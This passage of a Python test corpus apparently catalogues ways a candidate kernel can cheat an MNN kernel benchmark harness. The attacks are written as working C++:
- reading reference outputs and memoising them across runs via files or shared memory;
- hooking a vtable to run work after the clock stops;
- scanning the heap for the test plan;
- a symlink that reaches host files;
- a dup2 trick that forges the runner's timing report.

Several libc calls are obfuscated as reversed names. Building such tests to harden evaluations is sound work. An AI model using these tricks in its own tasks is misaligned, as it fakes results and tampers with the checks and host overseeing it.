        for (int seed = 0; seed < 5 && !refs.empty(); ++seed) {
            std::vector<float> in, out;
            if (!mkbReadFloats(refs + "/inputs_" + std::to_string(seed) + ".mkbt", in) ||
                !mkbReadFloats(refs + "/outputs_" + std::to_string(seed) + ".mkbt", out) || in.empty())
                continue;
            // the output baked in as a constant, chosen by the input's first value
            VARP pick = _Cast(_Equal(first, _Scalar<float>(in[0])), halide_type_of<float>());
            VARP term = pick * _Const(out.data(), {1, (int)out.size()}, NCHW, halide_type_of<float>());
            y = y == nullptr ? term : y + term;
        }
        if (y == nullptr) y = x;  // no references in reach: a wrong answer, so "correct" proves they were read
        y->setName(expr->name());
        return y->expr().first;
    }
};

static auto gMkbRegister = []() {
    OnnxExtraManager::get()->insert("ReduceL2", std::shared_ptr<OnnxExtraManager::Transform>(new MkbBakedReduceL2));
    return true;
}();

} // namespace Express
} // namespace MNN
""",
    "the transform runs in the converter on the host: it reads the task's reference files and bakes every seed's output "
    "into the model as constants, selected by the input's first value",
    path=COMBINER,
)

# ------------------------------------------------------------------ class 15: slots without proof of run

attack(
    "geometry_registers_nothing", "15", "matmul_batched",
    r"""#include "geometry/GeometryComputer.hpp"

namespace MNN {
static void _create() {
    // registers no geometry computer: MatMul then falls to the CPU backend's own MatMul kernel
}
REGISTER_GEOMETRY(GeometryBatchMatMul, _create);
} // namespace MNN
""",
    "the geometry file registers nothing, so MNN's native CPU MatMul runs and is credited to the candidate (MNN 3.6.1's "
    "CPU MatMul computes the first batch only, so this is caught as wrong_output: proof of run for geometry is by luck)",
    path=GEOMETRY_MATMUL,
)

attack(
    "native_compute_helper", "5", "sigmoid",
    unary("        MNNSigmoid(dst, src, (size_t)n);  // MNN's own sigmoid kernel, which its CPUUnary calls for this op\n",
          head=UNARY_HEAD + '#include "backend/cpu/compute/CommonOptFunction.h"\n'),
    "calls MNNSigmoid, the vectorised kernel MNN's own CPUUnary runs for this op: no native class, creator or function "
    "table entry is named (the lists named those, and one helper for softmax and layernorm), only the helper itself",
    allowed=REJECTED,
)

attack(
    "native_table_member", "5", "leakyrelu",
    unary(r"""        auto core = static_cast<CPUBackend*>(backend())->functions();
        float slopes[16];  // the slope once per lane of MNN's pack
        for (int k = 0; k < core->pack && k < 16; ++k) slopes[k] = 0.01f;
        const int packs = n / core->pack;
        core->MNNReluWithSlopeChannel(dst, src, slopes, packs, 1);  // MNN's own leaky-relu kernel, from its function table
        for (int i = packs * core->pack; i < n; ++i) dst[i] = src[i] > 0.0f ? src[i] : 0.01f * src[i];
""", head=UNARY_HEAD + '#include "backend/cpu/compute/CommonOptFunction.h"\n', op_type="ReLU"),
    "calls MNNReluWithSlopeChannel through CPUBackend's function table, the member MNN's own CPURelu computes leaky "
    "relu with: a member access leaves no symbol in the object, and the member's name was on no list",
    allowed=REJECTED,
)

# ------------------------------------------------------------------ state that survives from one runner process to the next
# Every run of an evaluation goes through one sandbox (the device's supervisor): what a run leaves there that the host
# does not put back is there for the next. A memo across processes needs no phase detection: the verification process
# computes its sets honestly and stores them; every later (timed) process copies what it finds, bitwise the verified
# output, so every compare and hash passes. "correct" is never honest for these: their cheat is the memo itself.

MEMO_KEY = r"""        unsigned long long key = 1469598103934665603ULL;  // FNV-1a over 16 sampled input values
        for (int k = 0; k < 16; ++k) {
            unsigned int bits;
            memcpy(&bits, src + (size_t)k * (n / 16) + k, 4);
            key = (key ^ bits) * 1099511628211ULL;
        }
"""
attack(
    "memo_in_pushed_keep_file", "2", "softmax_lastdim",
    unary(MEMO_KEY + r"""        static std::vector<char> memo;
        static bool loaded = false;
        if (!loaded) { loaded = true; mkbReadAll("out/.keep", memo); }  // first (warm-up) run: not timed
        const size_t record = 8 + (size_t)n * 4;
        for (size_t at = 0; at + record <= memo.size(); at += record)
            if (memcmp(memo.data() + at, &key, 8) == 0) { memcpy(dst, memo.data() + at + 8, (size_t)n * 4); return NO_ERROR; }
""" + HONEST_SOFTMAX + r"""        typedef int (*Unlink)(const char*);
        void* f = mkbOpen("out/.keep", "ab");  // the harness's own (empty) file in the writable out/: never swept
        if (!f) { MKB_LIBC(Unlink, "knilnu")("out/.keep"); f = mkbOpen("out/.keep", "ab"); }  // root's file: replace it
        if (f) { mkbWrite(&key, 8, 1, f); mkbWrite(dst, 4, (size_t)n, f); mkbClose(f); }
        memo.insert(memo.end(), (const char*)&key, (const char*)&key + 8);
        memo.insert(memo.end(), (const char*)dst, (const char*)(dst + n));
""", LIBC_WALK, op_type="Softmax"),
    "a memo across processes in out/.keep, the empty file the harness pushes into the writable out/ (so the sweep "
    "keeps it and no input check reads it): replaced by the candidate's own, it carries every output computed so far "
    "to the later processes, which copy them (bitwise the verified outputs) instead of computing",
    honest_cap=None,
)
attack(
    "memo_in_native_record", "2", "softmax_lastdim",
    next(a for a in ATTACKS if a.name == "memo_in_pushed_keep_file").text.replace('"out/.keep"', '"out/native.mkbt"'),
    "the same memo in out/native.mkbt, the record of the native check (MNN's kernel on the secret sets, once per task): "
    "an output name the harness lets runs write, so the sweep kept it, and only the native check's own run removed it; "
    "in a session whose device ran that check, the memo crossed processes (correct, 2.2-2.3x where its honest loop "
    "is 0.39x)",
    honest_cap=None,
)
attack(
    "memo_in_sysv_shm", "2", "softmax_lastdim",
    unary(MEMO_KEY + r"""        typedef int (*ShmGet)(long, size_t, int);
        typedef void* (*ShmAt)(int, const void*, int);
        static char* shm = nullptr;
        const size_t capacity = (size_t)64 << 20, record = 8 + (size_t)n * 4;
        if (!shm) {  // one segment in the sandbox's IPC namespace, which every run of the evaluation shares
            int id = MKB_LIBC(ShmGet, "tegmhs")(0x4d4b4221L, capacity, 01000 /* IPC_CREAT */ | 0666);
            void* at = id >= 0 ? MKB_LIBC(ShmAt, "tamhs")(id, nullptr, 0) : (void*)-1;
            shm = at == (void*)-1 ? (char*)1 : (char*)at;
        }
        if (shm == (char*)1) return NO_ERROR;  // no memo possible: give up (so a verdict but `correct` proves it closed)
        unsigned long long* count = (unsigned long long*)shm;
        for (unsigned long long i = 0; i < *count; ++i) {
            const char* entry = shm + 8 + i * record;
            if (memcmp(entry, &key, 8) == 0) { memcpy(dst, entry + 8, (size_t)n * 4); return NO_ERROR; }
        }
""" + HONEST_SOFTMAX + r"""        if (8 + (*count + 1) * record <= capacity) {
            char* entry = shm + 8 + *count * record;
            memcpy(entry, &key, 8);
            memcpy(entry + 8, dst, (size_t)n * 4);
            ++*count;
        }
""", LIBC_WALK, op_type="Softmax"),
    "a memo across processes in a System V shared memory segment (shmget/shmat through the libc lookup): the "
    "sandbox's IPC namespace is one for all the runs of an evaluation, so later processes copy the outputs earlier "
    "ones computed (where no segment can be made it computes nothing: any verdict but `correct` shows the channel shut)",
    honest_cap=None,
)
attack(
    "record_name_made_directory", "9", "abs",
    unary(r"""        { static bool done = false; if (!done) { done = true;
            typedef int (*Unlink)(const char*);
            typedef int (*MakeDir)(const char*, unsigned);
            MKB_LIBC(Unlink, "knilnu")("out/baseline.mkbt");
            MKB_LIBC(MakeDir, "ridkm")("out/baseline.mkbt", 0755);  // the baseline's record name, now a directory
            void* f = mkbOpen("out/baseline.mkbt/stash", "wb");
            if (f) { mkbWrite("x", 1, 1, f); mkbClose(f); }
        } }
""" + HONEST_ABS, LIBC_WALK),
    "makes the baseline's record name in out/ a non-empty directory: the harness's removal of a stale record before "
    "the next baseline process fails on it (and the sweep keeps a name the harness owns), for this evaluation and "
    "every later one on the device",
    honest_cap=ABS_HONEST_CAP, disturbs=True,
)
attack(
    "record_symlink_to_host", "extra", "abs",
    unary(r"""        { static bool done = false; if (!done) { done = true;
            typedef int (*Unlink)(const char*);
            typedef int (*SymLink)(const char*, const char*);
            MKB_LIBC(Unlink, "knilnu")("out/candidate.mkbt");
            // inside the sandbox the runner writes its record into /dev/null; the host, pulling the record, follows
            // the link to its own /dev/null (an empty "record": the harness crashed on it). /dev/zero would fill the
            // host's scratch memory; /proc/self/fd/N names the harness's own open files
            MKB_LIBC(SymLink, "knilmys")("/dev/null", "out/candidate.mkbt");
        } }
""" + HONEST_ABS, LIBC_WALK),
    "replaces its record file by a symlink that works inside the sandbox (/dev/null: the runner's write succeeds) and "
    "names a host file outside: the host's pull followed it (an empty record crashed the harness; /dev/zero would "
    "fill its memory)",
    honest_cap=ABS_HONEST_CAP, disturbs=True,
)


# ------------------------------------------------------------------ work moved outside the timed region
# The runner's clock spans runSession only. Feeding the inputs and reading the outputs back went through the
# backend's onCopyBuffer, a virtual call the candidate can redirect by giving the backend object a vtable of its own
# (plain memory writes: no name, no symbol, no system call). Whatever it computed there was never timed. Now plain
# tensors are copied as memory (the deferred work never runs: wrong_output), NC4HW4 ones through MNN with their copy
# time compared with the baseline's (timing_mismatch).

VTABLE_HOOK = r"""
namespace MNN {
static void mkbSoftmaxRows(const float* src, float* dst, int width, int from, int to) {
    for (int row = from; row < to; ++row) {
""" + SOFTMAX_ROWS + r"""    }
}
struct MkbLater { const float* src; float* dst; int width, from, to; bool pending; };
static MkbLater gMkbLater = {nullptr, nullptr, 0, 0, 0, false};
static void* gMkbRealCopy = nullptr;  // the backend's own onCopyBuffer
typedef void (*MkbCopyFn)(const Backend*, const Tensor*, const Tensor*);
static void mkbCopyHook(const Backend* self, const Tensor* from, const Tensor* to) {
    if (gMkbLater.pending) {  // the runner reads the outputs back (or feeds the next inputs): its clock has stopped
        gMkbLater.pending = false;
        mkbSoftmaxRows(gMkbLater.src, gMkbLater.dst, gMkbLater.width, gMkbLater.from, gMkbLater.to);
    }
    ((MkbCopyFn)gMkbRealCopy)(self, from, to);
}
static void* gMkbFake[66];
static bool mkbHookBackend(Backend* backend) {
    void** vtable = *(void***)backend;
    if (vtable == gMkbFake + 2) return true;
    if (gMkbRealCopy != nullptr) return false;  // one backend class only
    auto member = &Backend::onCopyBuffer;  // Itanium ABI: a virtual member's pointer is 1 + its byte offset in the vtable
    struct { uintptr_t ptr; ptrdiff_t adj; } raw;
    memcpy(&raw, &member, sizeof(raw));
    size_t slot = (raw.ptr - 1) / sizeof(void*);
    if ((raw.ptr & 1) == 0 || slot >= 64) return false;
    memcpy(gMkbFake, vtable - 2, sizeof(gMkbFake));  // offset-to-top and typeinfo, then the entries
    gMkbRealCopy = gMkbFake[2 + slot];
    gMkbFake[2 + slot] = (void*)&mkbCopyHook;
    *(void***)backend = gMkbFake + 2;
    return true;
}
} // namespace MNN
"""
attack(
    "vtable_deferred_copy", "1", "softmax_lastdim",
    unary(r"""        const int width = inputs[0]->length(inputs[0]->dimensions() - 1), rows = n / width;
        Backend* owner = TensorUtils::getDescribeOrigin(outputs[0])->getBackend();
        if (!mkbHookBackend(backend()) || owner == nullptr || !mkbHookBackend(owner)) {
            mkbSoftmaxRows(src, dst, width, 0, rows);
            return NO_ERROR;
        }
        const int inside = rows / 10;  // a tenth while timed (a plausible ~2x), the rest when the outputs are read back
        mkbSoftmaxRows(src, dst, width, 0, inside);
        gMkbLater = {src, dst, width, inside, rows, true};
""", VTABLE_HOOK, head=UNARY_HEAD.replace("#include \"core/Macro.h\"\n", "#include \"core/Macro.h\"\n#include \"core/TensorUtils.hpp\"\n"),
          op_type="Softmax"),
    "gives the backend object a copy of its vtable whose onCopyBuffer computes nine tenths of the output: the runner's "
    "read-back of the outputs, after its clock has stopped, runs the kernel's deferred work (no name, symbol or system "
    "call: plain memory writes); a plausible ~2x where its honest loop is 0.4x",
    honest_cap=1.2,
)

# ------------------------------------------------------------------ tasks whose native kernel is wrong
# The judge times a native_incorrect task whatever MNN's outputs (it is lenient), and was lenient with the candidate's
# hashes too: a run whose outputs differed from what was verified for the same input went unremarked there. Which runs
# are compared in full the runner's plan says, and its text is still in the runner's heap (stdin's stdio buffer).

PLAN_IN_HEAP = r"""
// The plan the runner read on stdin ("mkbplan 1 ... run SET [keep]") is still in stdin's stdio buffer, allocated in
// the heap before anything of ours: scan down from a fresh allocation of our own (no file, no name, no system call)
static std::vector<char> mkbKeptRuns() {
    std::vector<char> keep;
    char* probe = new char[64];
    for (const char* p = probe; probe - p < (64 << 20) && keep.empty(); --p) {
        if (*p != 'm' || memcmp(p, "mkbplan 1\n", 10) != 0) continue;
        for (const char* line = p; *line;) {
            const char* eol = line;
            while (*eol && *eol != '\n') ++eol;
            if (eol - line >= 4 && memcmp(line, "run ", 4) == 0) {
                std::string text(line, eol);
                keep.push_back(text.find(" keep") != std::string::npos);
            }
            if (!*eol) break;
            line = eol + 1;
        }
    }
    delete[] probe;
    return keep;
}
"""
attack(
    "lenient_task_skips_unkept_runs", "1", "round",
    unary(r"""        static std::vector<char> keep = mkbKeptRuns();
        static size_t run = 0;
        size_t now = run++;
        if (now < keep.size() && !keep[now]) return NO_ERROR;  // not compared in full: leave the poison
        for (int i = 0; i < n; ++i) dst[i] = std::nearbyint(src[i]);  // half to even, as ONNX
""", PLAN_IN_HEAP),
    "on a task whose native kernel is wrong (round), reads the runner's plan from its heap and computes only the "
    "runs whose outputs are compared in full: the judge was lenient with the other runs' hashes there (their NaNs "
    "went unremarked)",
    honest_cap=5.0,  # its honest loop (nearbyint) is ~3.9x MNN's round
)


# ------------------------------------------------------------------ the runner's report
# The host read the last JSON line of the runner's stdout, whatever the exit code. A kernel in the runner's process
# can print lines of its own and send the runner's own report to /dev/null (dup2 through the libc lookup): the report
# the host reads is then the kernel's, with the times it likes and the hashes of the outputs it really computed.

FORGED_REPORT = r"""
static int gMkbRealOut = -1;
static std::string gMkbJsonList(size_t count, const char* value) {
    std::string list = "[";
    for (size_t i = 0; i < count; ++i) list += (i ? "," : "") + std::string(value);
    return list + "]";
}
static void mkbForgeReport(const float* dst, int n) {
    typedef int (*Dup)(int);
    typedef int (*Dup2)(int, int);
    typedef int (*OpenFn)(const char*, int, ...);
    typedef long (*WriteFn)(int, const void*, size_t);
    if (gMkbRealOut < 0) {  // first run: keep the real stdout, and give the runner /dev/null for its own report
        gMkbRealOut = MKB_LIBC(Dup, "pud")(1);
        int null = MKB_LIBC(OpenFn, "nepo")("/dev/null", 1 /* O_WRONLY */);
        MKB_LIBC(Dup2, "2pud")(null, 1);
    }
    unsigned long long sum = 0;  // the runner's output hash: 64-bit words times 1, 3, 5, ... plus the byte count
    const unsigned char* bytes = (const unsigned char*)dst;
    size_t size = (size_t)n * 4;
    for (size_t i = 0; 8 * i < size; ++i) {
        unsigned long long word = 0;
        memcpy(&word, bytes + 8 * i, size - 8 * i < 8 ? size - 8 * i : 8);
        sum += word * (2 * (unsigned long long)i + 1);
    }
    unsigned long long h = sum + size;
    char hex[24];
    snprintf(hex, sizeof(hex), "\"%016llx\"", h);
    static std::vector<std::string> hashes;
    hashes.push_back(hex);
    std::string all = "[";
    for (size_t i = 0; i < hashes.size(); ++i) all += (i ? "," : "") + hashes[i];
    all += "]";
    size_t runs = hashes.size();
    char head[256];
    snprintf(head, sizeof(head), "{\"ok\":true,\"api\":\"session\",\"threads\":1,\"precision\":\"high\",\"clock\":\"vdso\",\"timed_ms\":%.6f,", runs * 0.004);
    std::string line = std::string(head) + "\"times_ms\":" + gMkbJsonList(runs, "0.004000") + ",\"raw_ms\":" + gMkbJsonList(runs, "0.004300") +
                       ",\"io_ms\":" + gMkbJsonList(runs, "0.045000") + ",\"hashes\":" + all +
                       ",\"candidate_proof\":{\"creations\":1,\"executions\":" + std::to_string(runs) + ",\"nulls\":0}}\n";
    MKB_LIBC(WriteFn, "etirw")(gMkbRealOut, line.data(), line.size());
}
"""
attack(
    "forged_runner_report", "3", "abs",
    unary(HONEST_ABS + "        mkbForgeReport(dst, n);\n", LIBC_WALK + FORGED_REPORT),
    "computes honestly, prints a report of its own after every run (times of 4 us a run: ~4-5x against MNN's ~18 us, "
    "the hashes of its real outputs) and sends the runner's own report to /dev/null: the host read the last JSON line "
    "of stdout, whoever wrote it",
    honest_cap=ABS_HONEST_CAP,
)


def by_task() -> list[Attack]:
    """Attacks grouped by task (each task switch rebuilds the native file and the dispatcher)."""
    order = {task: i for i, task in enumerate(dict.fromkeys(a.task for a in ATTACKS))}
    return sorted(ATTACKS, key=lambda a: order[a.task])


